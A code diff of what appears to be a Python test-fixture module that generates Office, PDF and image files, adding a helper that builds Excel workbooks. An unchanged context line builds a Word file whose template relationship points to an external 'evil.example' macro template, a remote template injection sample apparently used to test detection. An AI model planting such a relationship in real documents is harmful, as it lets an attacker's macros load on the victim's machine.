@@ -2,7 +2,9 @@
 
 import io
 import zipfile
+from datetime import date
 
+import xlsxwriter
 from PIL import Image
 from pypdf import PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject
@@ -105,3 +107,20 @@ def external(kind="attachedTemplate"):
     """A text with a relation to somewhere else."""
     relation = f'<Relationships><Relationship Type="x/{kind}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
     return office(".docx", **{"word/_rels/settings.xml.rels": relation})
+
+
+def workbook(*sheets):
+    """An Excel file with these sheets of rows."""
+    target = io.BytesIO()
+    book = xlsxwriter.Workbook(target, {"in_memory": True})
+    day = book.add_format({"num_format": "dd.mm.yyyy"})
+    for rows in sheets:
+        sheet = book.add_worksheet()
+        for at, row in enumerate(rows):
+            for place, cell in enumerate(row):
+                if isinstance(cell, date):
+                    sheet.write_datetime(at, place, cell, day)
+                else:
+                    sheet.write(at, place, cell)
+    book.close()
+    return target.getvalue()
